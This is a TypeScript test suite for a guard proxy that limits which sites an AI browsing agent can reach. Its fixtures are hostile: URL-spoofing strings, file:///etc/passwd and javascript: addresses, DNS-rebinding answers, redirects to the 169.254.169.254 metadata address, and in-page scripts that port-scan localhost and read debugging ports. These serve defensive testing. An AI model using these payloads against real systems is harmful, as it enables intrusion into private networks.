import { equal, ok } from 'node:assert/strict';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { startGuardProxy } from '../../src/safety/proxy/guard-proxy.ts';
import { observedSession, temporaryFolder } from '../sessions.ts';
import type { Case } from './case.ts';
import { agrees, never } from './person.ts';
import { click, type Move, navigate, openTab, wait } from './puppet.ts';
import { redirect, signedIn } from './sites.ts';
import type { World } from './world.ts';

/** A port on this machine that counts who knocks. */
async function doorbell(): Promise<{ port: number; knocks: () => number } & Disposable> {
  let knocks = 0;
  const server = createServer((socket) => {
    knocks += 1;
    socket.on('error', () => {}).destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { port, knocks: () => knocks, [Symbol.dispose]: () => void server.close() };
}

export const origins: readonly Case[] = [
  {
    id: 'A071',
    class: 'origin',
    title: 'addresses that look like those of a site that is open',
    fast: true,
    async run(world) {
      const scene = await world.scene(
        (at) => ({
          good: { '/': '<h1>Good</h1>' },
          [`${new URL(at('good')).hostname}.evil`]: { '/': 'hello' },
          evil: { '/': 'hello' },
        }),
        ['evil'],
      );
      const good = scene.host('good');
      const [goodHost = '', port = ''] = good.split(':');
      const evil = scene.host('evil');
      const evilHost = evil.split(':')[0];
      world.guard.setPolicy({ read: 'public', allowed: [scene.at('good')], blocked: [], started: [] });
      const disguises = [
        `http://${goodHost}.${evil}/`,
        `http://${good}@${evil}/`,
        `http://${good}:secret@${evil}/`,
        `http://${goodHost}%2e${evil}/`,
        `http://${goodHost}%00.${evil}/`,
        `http://${goodHost}\\@${evil}/`,
        `http:\\\\${evil}\\?${good}`,
        `http://${evil}?http://${good}/`,
        `http://${evil}#@${good}/`,
        `http:/${evil}/`,
        `http:${evil}/`,
        `//${evil}/`,
        `http://${evilHost}.:${port}/`,
        `http://${evil.toUpperCase()}/`,
        `http://${goodHost}:${Number(port) + 1}@${evil}/`,
        `http://[::ffff:127.0.0.1]:${port}/`,
        `http://127.0.0.1:${port}/`,
        `http://2130706433:${port}/`,
        `http://0x7f.1:${port}/`,
        `http://localhost:${port}/`,
        `http://0.0.0.0:${port}/`,
        `\u0000http://${evil}/`,
        `ht\ttp://${evil}/`,
        `http://ｅｖｉｌ${evil.slice(4)}/`,
      ];
      const before = world.sites.received.length;
      await scene.run({
        task: `Look at ${scene.at('good')}`,
        at: scene.at('good', '/'),
        moves: [...disguises.map(navigate), ...disguises.slice(0, 4).map(openTab)],
        person: agrees,
        limits: { steps: 60 },
      });
      const others = world.sites.received.slice(before).filter(({ origin }) => origin !== scene.at('good'));
      equal(others.map(({ origin, path }) => origin + path).join(' '), '');
    },
  },
  {
    id: 'A072',
    class: 'origin',
    title: 'addresses that lead out of the web, by every way there is',
    async run(world) {
      const schemes = [
        'data:text/html,<h1>LANDED</h1>',
        'javascript:void(document.title=1)',
        'file:///etc/passwd',
        'chrome://version',
        'chrome://settings',
        'about:config',
        'view-source:http://localhost/',
        'devtools://devtools/bundled/inspector.html',
        'chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/a.html',
        'filesystem:http://localhost/temporary/a.html',
        'ftp://localhost/a',
        'ms-settings:privacy',
        'vbscript:msgbox(1)',
        'intent://scan/#Intent;end',
        'blob:null/0',
      ];
      const landed = new Set<string>();
      const quoted = schemes.map((to) => to.replaceAll('"', '&quot;'));
      const pages = {
        '/links': quoted.map((to, at) => `<p><a href="${to}">L${at}x</a></p>`),
        '/windows': quoted.map((to, at) => `<p><button onclick="window.open(\`${to}\`)">L${at}x</button></p>`),
        '/scripts': quoted.map((to, at) => `<p><button onclick="location = \`${to}\`">L${at}x</button></p>`),
      };
      const scene = await world.scene(() => ({
        evil: {
          ...Object.fromEntries(Object.entries(pages).map(([path, lines]) => [path, `<h1>Page</h1>${lines.join('')}`])),
          ...Object.fromEntries(
            schemes.flatMap((to, at) => [
              [`/hop${at}`, redirect(to.replaceAll(/[<>' ]/g, encodeURIComponent))],
              [`/fresh${at}`, `<h1>Page</h1><meta http-equiv="refresh" content="0; url=${quoted[at]}">`],
            ]),
          ),
        },
      }));
      // Behind other addresses that begin with about: Chromium has nothing.
      const notice = (how: string) => {
        for (const { url } of world.session.tabs)
          if (!/^(?:https?:|about:|chrome-error:|blob:http|$)/.test(url)) landed.add(`${how}: ${url}`);
      };
      const noticing =
        (how: string, move: Move): Move =>
        (hearing) => {
          notice(`before ${how}`);
          return typeof move === 'function' ? (move as (one: typeof hearing) => object)(hearing) : move;
        };
      const run = async (path: string, moves: readonly Move[]) => {
        // Few at a time: whoever only meets walls is stopped.
        for (const part of [moves.slice(0, 5), moves.slice(5, 10), moves.slice(10)]) {
          const { all } = await scene.run({
            task: 'Look at this page.',
            at: scene.at('evil', path),
            moves: part.map((move) => noticing(path, move)),
            person: agrees,
            mayMiss: true,
          });
          notice(`after ${path}`);
          const { length } = all('judged');
          ok(length >= part.length - 1, `Only ${length} were tried on ${path}: this proves nothing.`);
        }
      };
      await run('/links', schemes.map(navigate));
      const clicks = schemes.map((_, at) => click(new RegExp(`L${at}x`)));
      for (const path of Object.keys(pages)) await run(path, clicks);
      // A page can do these by itself: no puppet is needed.
      const ways = schemes.flatMap((_, at) => [`/hop${at}`, `/fresh${at}`]);
      const visit = async () => {
        const page = await world.session.context.newPage();
        for (let way = ways.shift(); way !== undefined; way = ways.shift()) {
          await page.goto(scene.at('evil', way), { timeout: 1_500 }).catch(() => {});
          await page.waitForTimeout(100);
          notice(way);
        }
        await page.close();
      };
      await Promise.all([visit(), visit(), visit()]);
      equal([...landed].join('\n'), '');
    },
  },
  {
    id: 'A075',
    class: 'origin',
    title: 'a name that stands for a public address first and for this machine next',
    async run() {
      using door = await doorbell();
      let asked = 0;
      const answers = [
        ['127.0.0.1'],
        ['93.184.215.14', '127.0.0.1'],
        ['::1'],
        ['::ffff:127.0.0.1'],
        ['169.254.169.254'],
        ['10.0.0.1'],
      ];
      await using proxy = await startGuardProxy({
        policy: { read: 'public', allowed: [], blocked: [], started: [] },
        resolve: async () => {
          asked += 1;
          return (answers[(asked - 1) % answers.length] ?? []) as never;
        },
      });
      await using folder = await temporaryFolder();
      await using observed = await observedSession(folder.path, { guardFlags: proxy.flags });
      const { tab } = observed.session;
      for (let turn = 0; turn < answers.length * 2; turn += 1)
        await tab.goto(`http://rebind${turn % 3}.example:${door.port}/`).catch(() => {});
      ok(asked > 0, 'Nobody was asked where it is: this proves nothing.');
      equal(door.knocks(), 0);
    },
  },
  {
    id: 'A076',
    class: 'origin',
    title: 'a public page that leads into a private network, with and without a body',
    async run(world) {
      using door = await doorbell();
      const inside = [
        `http://127.0.0.1:${door.port}/admin`,
        `http://localhost:${door.port}/admin`,
        `http://[::1]:${door.port}/`,
        `http://0.0.0.0:${door.port}/`,
        `http://127.1:${door.port}/`,
        'http://192.168.1.1/admin',
        'http://169.254.169.254/latest/meta-data/',
        'http://10.0.0.1/',
      ];
      const scene = await world.scene(() => ({
        evil: {
          '/': `<h1>Public</h1><script>for (let i = 0; i < ${inside.length}; i++) fetch('/keep' + i, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})</script>`,
          ...Object.fromEntries(
            inside.flatMap((to, at) => [
              [`/hop${at}`, redirect(to)],
              [`/keep${at}`, redirect(to, 307)],
            ]),
          ),
        },
      }));
      const met = world.guard.refusals.length;
      await never(scene, {
        task: `Look at ${scene.at('evil')}`,
        at: scene.at('evil', '/'),
        moves: inside.flatMap((to, at) => [navigate(scene.at('evil', `/hop${at}`)), navigate(to)]),
        harm: door.knocks,
        limits: { steps: 60 },
        mayMiss: true,
      });
      ok(world.guard.refusals.length > met, 'Nothing was refused: this proves nothing.');
    },
  },
  {
    id: 'A077',
    class: 'origin',
    title: 'a page that looks for open doors on this machine and in the network',
    async run(world) {
      using door = await doorbell();
      const targets = `['http://127.0.0.1:${door.port}/', 'http://localhost:${door.port}/', 'http://[::1]:${door.port}/', 'http://192.168.0.1/', 'http://router.lan/']`;
      const scene = await world.scene(() => ({
        evil: {
          '/': `<h1>Scan</h1><script>for (const to of ${targets}) { fetch(to, { mode: 'no-cors' }).then(() => fetch('/open'), () => {});
            new Image().src = to; new WebSocket(to.replace('http', 'ws')); fetch(to, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {}); }</script>`,
        },
      }));
      await never(scene, {
        task: 'Look at this page.',
        at: scene.at('evil', '/'),
        moves: [wait(1.2)],
        harm: door.knocks,
      });
    },
  },
  {
    id: 'A078',
    class: 'origin',
    title: 'a page that talks to the debugging port of the browser',
    async run(world) {
      const ports = await listening();
      const scene = await world.scene(() => ({
        evil: {
          '/': `<h1>Debug</h1><script>for (const port of [9222, 9229, ${ports.slice(0, 40).join(',')}].filter(Boolean))
            fetch('http://127.0.0.1:' + port + '/json/version').then((r) => r.text()).then((t) => fetch('/open?' + port + encodeURIComponent(t.slice(0, 40))), () => {});</script>`,
        },
      }));
      await never(scene, {
        task: 'Look at this page.',
        at: scene.at('evil', '/'),
        moves: [wait(1)],
        harm: () => scene.received('evil').filter(({ path }) => path.startsWith('/open')).length,
      });
      // The driver talks to the browser through a pipe.
      for (const port of ports) ok(!(await isDebugger(port)), `A browser listens for debuggers on port ${port}.`);
    },
  },
  {
    id: 'A080',
    class: 'origin',
    title: 'a site that moves on to another one to sign in: asked once, with both names',
    async run(world) {
      const scene = await world.scene((at) => ({
        shop: { '/': signedIn(`<h1>Shop</h1><a href="${at('idp')}/sign-in" target="_blank">Sign in</a>`) },
        idp: {
          '/sign-in': '<h1>Who are you?</h1><a href="/next">Next</a>',
          '/next': '<h1>Next</h1><a href="/sign-in">Back</a>',
        },
      }));
      let questions = 0;
      const { approvals } = await scene.run({
        task: 'Sign in to the shop.',
        at: scene.at('shop', '/'),
        moves: [click(/Sign in/), wait(0.3), click(/Next/), click(/Back/)],
        person: ({ kind }) => {
          questions += kind === 'approval' ? 1 : 0;
          return { allows: 'run' };
        },
        mayMiss: true,
      });
      equal(questions, 1, `It was asked ${questions} times.`);
      const text = approvals[0]?.text ?? '';
      ok(text.includes(scene.host('shop')) && text.includes(scene.host('idp')), 'The question does not name both.');
    },
  },
  {
    id: 'B040',
    class: 'origin',
    title: 'only some sites were opened: no other is reached by links, windows, addresses or forms',
    async run(world) {
      const scene = await world.scene((at) => ({
        good: {
          '/': `<h1>Good</h1><a href="${at('other')}/">Link</a><a href="${at('other')}/" target="_blank">Window</a>
            <button onclick="window.open('${at('other')}/')">Script</button><form action="${at('other')}/"><button>Form</button></form>
            <form method="post" action="${at('other')}/"><button>Post</button></form>`,
        },
        other: { '/': '<h1>Other</h1>' },
      }));
      world.guard.setPolicy({ read: [scene.at('good')], allowed: [], blocked: [], started: [] });
      const home = navigate(scene.at('good', '/'));
      const ways = [/Link/, /Window/, /Script/, /Form/, /Post/].flatMap((words) => [home, click(words), wait(0.2)]);
      const { all } = await scene.run({
        task: 'Look at this page.',
        at: scene.at('good', '/'),
        moves: [...ways, navigate(scene.at('other', '/')), openTab(scene.at('other', '/'))],
        limits: { steps: 60 },
        person: ({ kind }) => (kind === 'approval' ? { allows: 'no' } : {}),
      });
      equal(scene.received('other').length, 0);
      ok(all('judged').length > 0);
    },
  },
  {
    id: 'B041',
    class: 'origin',
    title: 'something may be changed on some sites only: nowhere else, by forms, requests, sockets or windows',
    async run(world) {
      const sends = (to: string) => `fetch('${to}/x', { method: 'POST', mode: 'no-cors', body: 'a=1' })`;
      const body = (there: string) => `<h1>Page</h1>
        <form method="post" action="${there}/x"><input name="a" value="1"><button>Form</button></form>
        <button onclick="${sends(there)}">Request</button><button onclick="navigator.sendBeacon('/x', 'a=1')">Beacon</button>
        <form method="post" action="${there}/x" target="_blank"><button>Window</button></form>
        <script>const line = new WebSocket('${there.replace('http', 'ws')}/line')</script>
        <button onclick="line.send('delete 5')">Message</button>`;
      const scene = await world.scene((at) => ({
        shop: { '/': body(at('other')), '/own': body(at('shop')) },
        other: { '/': body(at('other')) },
      }));
      world.guard.setPolicy({ ...world.guard.policy, write: [scene.at('shop')] });
      const from = (page: string, ways: readonly RegExp[]) =>
        ways.flatMap((words) => [navigate(page), click(words), wait(0.2)]);
      const ways = [/Form/, /Request/, /Window/, /Message/];
      const { approvals, all } = await scene.run({
        task: `Press all buttons on ${scene.at('shop')} and ${scene.at('other')}.`,
        at: scene.at('shop', '/'),
        moves: [
          ...from(scene.at('shop', '/'), ways),
          ...from(scene.at('other', '/'), [...ways, /Beacon/]),
          ...from(scene.at('shop', '/own'), [/Request/]),
        ],
        limits: { steps: 60 },
        person: agrees,
      });
      equal(scene.changes('other').length, 0, 'Something was changed on a site that was not listed.');
      // Without this the silence would prove nothing.
      equal(scene.changes('shop').length, 1, 'Nothing could be changed on the site that was listed.');
      ok(
        approvals.every(({ text }) => !text.includes(scene.host('other'))),
        'It was asked about.',
      );
      ok(
        all('judged').filter(({ verdict, because }) => verdict === 'denied' && because.includes('--write-site'))
          .length > 5,
      );
    },
  },
];

/** Ports on which something on this machine listens. */
async function listening(): Promise<number[]> {
  const { readFile } = await import('node:fs/promises');
  const tables = await Promise.all(
    ['/proc/net/tcp', '/proc/net/tcp6'].map((path) => readFile(path, 'utf8').catch(() => '')),
  );
  const rows = tables
    .join('\n')
    .split('\n')
    .map((row) => row.trim().split(/\s+/));
  return [
    ...new Set(
      rows
        .filter(([, , , state]) => state === '0A')
        .map(([, local = '']) => Number.parseInt(local.split(':')[1] ?? '', 16)),
    ),
  ];
}

async function isDebugger(port: number): Promise<boolean> {
  const signal = AbortSignal.timeout(500);
  const answer = await fetch(`http://127.0.0.1:${port}/json/version`, { signal }).catch(() => undefined);
  const text = await answer?.text().catch(() => '');
  return text?.includes('webSocketDebuggerUrl') ?? false;
}

export type { World };
